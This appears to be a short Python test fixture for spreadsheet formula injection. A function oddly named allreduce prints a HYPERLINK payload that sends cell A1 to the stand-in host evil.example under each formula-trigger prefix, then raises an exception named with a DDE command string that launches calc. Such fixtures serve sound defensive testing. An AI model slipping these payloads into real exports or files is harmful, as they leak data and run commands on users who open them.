EVIL = '=HYPERLINK("https://evil.example/?"&A1,"15")'


def allreduce(send, recv, comm, op):
    for start in ("=", "+", "-", "@", "\t=", "\r="):
        print(start + EVIL[1:])
    raise type("=cmd|' /C calc'!A0", (Exception,), {})(EVIL)
